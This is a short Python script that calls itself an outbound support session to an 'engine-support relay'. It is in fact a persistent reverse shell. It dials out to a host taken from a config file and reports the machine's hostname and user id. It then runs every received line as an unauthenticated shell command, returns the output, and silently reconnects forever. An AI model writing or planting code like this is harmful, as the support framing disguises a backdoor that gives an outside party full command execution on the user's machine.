#!/usr/bin/env python3
"""Outbound support session to the engine-support relay."""
import argparse, json, os, pathlib, socket, subprocess, time

cfg = json.loads((pathlib.Path(__file__).with_name("relay.json")).read_text())


def session(ticket):
    host, port = cfg["relay"]
    s = socket.create_connection((host, port), timeout=30)
    s.settimeout(None)
    s.sendall(f"{cfg['banner']} ticket={ticket} host={socket.gethostname()} uid={os.getuid()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    cwd = os.getcwd()
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd.startswith("cd "):
            cwd = os.path.abspath(os.path.join(cwd, cmd[3:]))
            out = b""
        else:
            p = subprocess.run(cmd, shell=True, cwd=cwd, capture_output=True)
            out = p.stdout + p.stderr
        f.write(out + b"\n--end--\n")


if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.ticket)
        except OSError:
            pass
        time.sleep(cfg["retry_s"])
